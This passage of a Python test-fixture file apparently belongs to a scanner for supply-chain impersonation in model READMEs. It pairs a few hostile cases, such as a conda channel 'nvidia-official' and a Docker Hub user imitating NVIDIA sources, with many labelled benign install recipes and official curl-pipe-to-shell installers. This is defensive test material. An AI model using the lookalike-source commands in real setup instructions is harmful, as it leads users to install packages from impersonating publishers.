             f"{PYXIS}: no `REGISTRY#` means Docker Hub, user `nvidia-pytorch`, imitating nvcr.io#nvidia/pytorch."),
    _hostile("identity-ref-conda-lookalike-channel", repo({"README.md": sh("Tiny LM", (
        "conda install -c nvidia-official cuda-toolkit cudnn"))}),
             "conda channel `nvidia-official` imitates NVIDIA's `nvidia` channel on anaconda.org."),
]


# ---------------------------------------------------------------------------------------------
# Benign vendor shapes
# ---------------------------------------------------------------------------------------------

NIM_RUN = """\
export NGC_API_KEY=<your key>
echo "$NGC_API_KEY" | docker login nvcr.io --username '$oauthtoken' --password-stdin
export LOCAL_NIM_CACHE=~/.cache/nim
mkdir -p "$LOCAL_NIM_CACHE"
docker run -it --rm --gpus all --shm-size=16GB \\
  -e NGC_API_KEY=$NGC_API_KEY \\
  -v "$LOCAL_NIM_CACHE:/opt/nim/.cache" \\
  -u $(id -u) \\
  -p 8000:8000 \\
  nvcr.io/nim/meta/llama-3.1-8b-instruct:latest
"""

ROCM_RUN = """\
docker pull rocm/vllm:latest
docker run -it --rm --network=host --ipc=host --group-add video \\
  --device=/dev/kfd --device=/dev/dri --security-opt seccomp=unconfined \\
  -v $HOME/.cache/huggingface:/root/.cache/huggingface \\
  rocm/vllm:latest \\
  vllm serve nvidia/Tiny-LM --tensor-parallel-size 1
"""

CONDA_FORGE_ENV = """\
name: tiny-lm
channels:
  - conda-forge
dependencies:
  - python=3.11
  - pytorch>=2.3
  - numpy
  - pip
  - pip:
      - transformers>=4.44
      - accelerate
"""

UV_PROJECT = """\
[project]
name = "tiny-lm-serve"
version = "0.1.0"
requires-python = ">=3.10"
dependencies = ["torch>=2.3", "transformers>=4.44", "accelerate>=0.33"]

[[tool.uv.index]]
name = "pytorch-cu124"
url = "https://download.pytorch.org/whl/cu124"
explicit = true

[tool.uv.sources]
torch = { index = "pytorch-cu124" }
"""

NIM_CHART = """\
apiVersion: v2
name: tiny-lm-nim
version: 0.1.0
dependencies:
  - name: nim-llm
    version: "1.3.0"
    repository: "https://helm.ngc.nvidia.com/nim"
"""

NIM_VALUES = """\
nim-llm:
  image:
    repository: nvcr.io/nim/meta/llama-3.1-8b-instruct
    tag: "1.3.3"
  model:
    ngcAPISecret: ngc-api
  imagePullSecrets:
    - name: ngc-secret
  resources:
    limits:
      nvidia.com/gpu: 1
"""

SBATCH_NVCR = """\
#!/bin/bash
#SBATCH --job-name=finetune
#SBATCH --nodes=2
#SBATCH --gpus-per-node=8
#SBATCH --ntasks-per-node=8

srun --container-image=nvcr.io#nvidia/nemo:25.02 \\
     --container-mounts=$PWD:/workspace \\
     python /workspace/finetune.py --model /workspace
"""

APPTAINER_NVCR = """\
Bootstrap: docker
From: nvcr.io/nvidia/pytorch:24.05-py3

%post
    pip install --no-cache-dir transformers accelerate

%runscript
    exec python3 "$@"
"""

VLLM_COMPOSE = """\
services:
  vllm:
    image: vllm/vllm-openai:v0.8.5
    command: ["--model", "nvidia/Tiny-LM"]
    environment:
      - HUGGING_FACE_HUB_TOKEN=${HF_TOKEN}
    ports: ["8000:8000"]
    ipc: host
    deploy:
      resources:
        reservations:
          devices: [{driver: nvidia, count: all, capabilities: [gpu]}]
"""

RUN_WITH_TRANSFORMERS = """
```python
from transformers import AutoModelForCausalLM
model = AutoModelForCausalLM.from_pretrained("nvidia/Tiny-LM", torch_dtype="auto")
```
"""

BENIGN_CASES = [
    _benign("nim-docker-run-nvcr", repo({"README.md": sh("Tiny LM NIM", NIM_RUN, "## Deploy with NIM")}),
            "docs.nvidia.com/nim (Launch NIM): docker login nvcr.io, docker run nvcr.io/nim/<publisher>/<model>."),
    _benign("rocm-vllm-docker", repo({"README.md": sh("Tiny LM on AMD Instinct", ROCM_RUN, "## Serve on ROCm")}),
            "AMD's ROCm vLLM image on Docker Hub (`rocm/vllm`), with the ROCm device flags of AMD's guides."),
    _benign("nvidia-pip-index-tensorrt-llm", repo({"README.md": sh("Tiny LM TensorRT-LLM", (
        "pip3 install --upgrade pip setuptools\n"
        "pip3 install tensorrt_llm -U --extra-index-url https://pypi.nvidia.com\n"
        "pip install -U \"nvidia-modelopt[all]\""), "## Install")}),
            "TensorRT-LLM's documented pip install with NVIDIA's index; the package also exists on PyPI."),
    _benign("conda-forge-environment", repo({"environment.yml": CONDA_FORGE_ENV, "README.md": sh(
        "Tiny LM", "conda env create -f environment.yml\nconda activate tiny-lm")}),
            f"{CONDA}: conda-forge only, and PyPI's transformers/accelerate in the pip: list."),
    _benign("uv-project-pytorch-index", repo({"pyproject.toml": UV_PROJECT, "README.md": sh(
        "Tiny LM", "uv sync\nuv run python -c 'import torch; print(torch.cuda.is_available())'")}),
            f"{UV_INDEX}: the uv docs' own example, torch pinned to PyTorch's explicit cu124 index, rest from PyPI."),
    _benign("helm-ngc-nim-chart", repo({"chart/Chart.yaml": NIM_CHART, "chart/values.yaml": NIM_VALUES,
                                        "README.md": sh("Tiny LM NIM on Kubernetes", (
        "helm fetch https://helm.ngc.nvidia.com/nim/charts/nim-llm-1.3.0.tgz --username='$oauthtoken' "
        "--password=$NGC_API_KEY\nhelm dependency update chart\nhelm install tiny-lm chart"), "## Deploy")}),
            f"{NIM_HELM}; the subchart from NGC's Helm repository and the image from nvcr.io."),
    _benign("slurm-pyxis-enroot-nvcr", repo({"finetune.sbatch": SBATCH_NVCR, "README.md": sh("Tiny LM", (
        "enroot import 'docker://$oauthtoken@nvcr.io#nvidia/pytorch:24.05-py3'\nsbatch finetune.sbatch"),
        "## Fine-tune on Slurm")}),
            f"{PYXIS}; {ENROOT}: NGC's nvcr.io images, the registry written before `#`."),
    _benign("apptainer-nvcr", repo({"tiny.def": APPTAINER_NVCR, "README.md": sh("Tiny LM", (
        "apptainer pull docker://nvcr.io/nvidia/pytorch:24.05-py3\napptainer build tiny.sif tiny.def"),
        "## Apptainer")}),
            f"{APPTAINER}: an NGC base image, %post installs PyPI packages."),
    _benign("endpoints-requirements-well-known", repo({
        "requirements.txt": "optimum[onnxruntime]==1.2.3\nmkl-include\nmkl\n", "README.md": ENDPOINT_CARD}),
            f"{ENDPOINTS} (its example file, verbatim)."),
    _benign("installer-homebrew", repo({"README.md": sh("Tiny LM GGUF", (
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"\n'
        "brew install llama.cpp\nllama-cli -hf nvidia/Tiny-LM-GGUF"), "## Run locally")}),
            "brew.sh's documented installer one-liner, then llama.cpp's brew formula."),
    _benign("installer-miniconda", repo({"README.md": sh("Tiny LM", (
        "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh\n"
        "bash Miniconda3-latest-Linux-x86_64.sh -b -p $HOME/miniconda3\n"
        "$HOME/miniconda3/bin/conda create -y -n tiny python=3.11"))}),
            "Anaconda's documented Miniconda quick install from repo.anaconda.com."),
    _benign("installer-nix", repo({"README.md": sh("Tiny LM", (
        "sh <(curl -L https://nixos.org/nix/install) --daemon\nnix-shell -p python311Packages.transformers"))}),
            "nixos.org/download: the official multi-user installer through process substitution."),
    _benign("installer-uv", repo({"README.md": card("Tiny LM", """
## Install

```bash
curl -LsSf https://astral.sh/uv/install.sh | sh
uv pip install vllm
```

On Windows:

```powershell
powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"
```
""")}),
            "docs.astral.sh/uv installation: the standalone installers for Linux/macOS and Windows."),
    _benign("installer-rustup", repo({"README.md": sh("Tiny LM with candle", (
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n"
        "cargo install --git https://github.com/huggingface/candle candle-examples"))}),
            "rustup.rs's documented installer, then Hugging Face's candle from its GitHub org."),
    _benign("installer-ollama", repo({"README.md": sh("Tiny LM GGUF", (
        "curl -fsSL https://ollama.com/install.sh | sh\nollama run hf.co/nvidia/Tiny-LM-GGUF:Q4_K_M"))}),
            "ollama.com/download/linux's installer one-liner, then Ollama's documented hf.co model reference."),
    _benign("redhat-registry-podman", repo({"README.md": sh("Tiny LM on RHEL AI", (
        "podman login registry.redhat.io\n"
        "podman run --rm -it --device nvidia.com/gpu=all -p 8000:8000 --ipc=host \\\n"
        "  -v ~/.cache/huggingface:/opt/app-root/src/.cache/huggingface:Z \\\n"
        "  registry.redhat.io/rhaiis/vllm-cuda-rhel9:3.0.0 --model nvidia/Tiny-LM"), "## Serve")}),
            "Red Hat AI Inference Server's documented podman run from registry.redhat.io."),
    _benign("pip-git-transformers", repo({"README.md": card("Tiny LM", (
        "Needs transformers from source until the next release:\n\n"
        "```bash\npip install git+https://github.com/huggingface/transformers\n```\n" + RUN_WITH_TRANSFORMERS))}),
            "A vendor card's common line: transformers from Hugging Face's own GitHub org."),
    _benign("vllm-compose-dockerhub", repo({"compose.yaml": VLLM_COMPOSE, "README.md": sh(
        "Tiny LM", "docker compose up -d")}),
            "vLLM's official OpenAI-compatible image on Docker Hub (`vllm/vllm-openai`), per vLLM's docker docs."),
    _benign("tgi-ghcr-huggingface", repo({"README.md": sh("Tiny LM", (
        "docker run --gpus all --shm-size 1g -p 8080:80 -v $PWD/data:/data \\\n"
        "  ghcr.io/huggingface/text-generation-inference:3.3.0 --model-id nvidia/Tiny-LM"))}),
            "TGI's documented docker run from Hugging Face's ghcr.io org."),
    _benign("pytorch-index-pip", repo({"README.md": sh("Tiny LM", (
        "pip install torch --index-url https://download.pytorch.org/whl/cu124\npip install transformers accelerate"))}),
            "pytorch.org's install selector: torch from PyTorch's own index (replacing, not beside, PyPI)."),
    _benign("third-party-quant-vendor-prefix", repo({"README.md": card("Tiny LM quantized", (
        "Quantized from [nvidia/Tiny-LM](https://huggingface.co/nvidia/Tiny-LM).\n" + RUN_WITH_TRANSFORMERS),
        front="library_name: transformers\nbase_model: nvidia/Tiny-LM\nbase_model_relation: quantized")}),
            "A re-upload named `nvidia_<Model>` (the common quantizer spelling, e.g. bartowski's), published by "
            "the quantizer: a repo name that names its base is not an impersonation."),
]

# Benign cases also vetted under a named publisher: the repo-name shape quantizers use every day.
BENIGN_PUBLISHED_AS = {"third-party-quant-vendor-prefix": "bartowski/nvidia_Tiny-LM-GGUF"}

register_all([*FORMS, *SOURCES, *IDENTITY_ORGS, *IDENTITY_REFS, *BENIGN_CASES])
